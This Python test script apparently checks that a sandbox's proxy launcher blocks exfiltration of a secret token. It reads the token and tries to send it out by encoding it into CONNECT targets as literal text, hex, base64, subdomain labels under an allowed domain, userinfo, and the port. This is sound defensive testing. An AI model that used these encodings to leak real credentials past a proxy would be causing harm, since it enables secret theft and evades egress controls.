"""Carry the key out in what the relay sees of a request: the CONNECT target. One line per attempt.

    relay_keynames.py CONTROL

Each target holds the key (or an encoding of it) in a made-up name: literal, hex, upper-case hex,
base64, a label under an allowed domain, a host name under an allowed name's look-alike. The
launcher must refuse each without resolving it, and its closing line (which lists refused targets)
must not show the key. CONTROL, an allowed name, is asked last. Lines: "LABEL: STATUS" (never the
target itself, which holds the key).
"""

import base64
import os
import socket
import sys

key = open(os.environ["QISKIT_IBM_TOKEN_FILE"]).read().strip()
raw = key.encode()
proxy = os.environ["HTTPS_PROXY"].removeprefix("http://").rstrip("/")
phost, _, pport = proxy.rpartition(":")
targets = {
    "literal": f"{key}:443",
    "literal label": f"{key.lower()}.example.test:443",
    "hex": f"{raw.hex()}:443",
    "hex labels under an allowed domain": f"x{raw[:28].hex()}.quantum.cloud.ibm.com:443",
    "upper hex": f"{raw.hex().upper()}.example.test:443",
    "base64": f"{base64.b64encode(raw).decode()}:443",
    "base64url": f"{base64.urlsafe_b64encode(raw).decode().rstrip('=')}.example.test:443",
    "in userinfo": f"{key}@quantum.cloud.ibm.com:443",
    "as the port": f"quantum.cloud.ibm.com:{key}",
    "control": f"{sys.argv[1]}:443",
}
for label, target in targets.items():
    s = socket.create_connection((phost, int(pport)), timeout=60)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    buf = b""
    while b"\r\n" not in buf:
        data = s.recv(4096)
        if not data:
            break
        buf += data
    status = buf.split(b" ")[1].decode() if b" " in buf else repr(buf)
    print(f"{label}: {status}", flush=True)
    s.close()
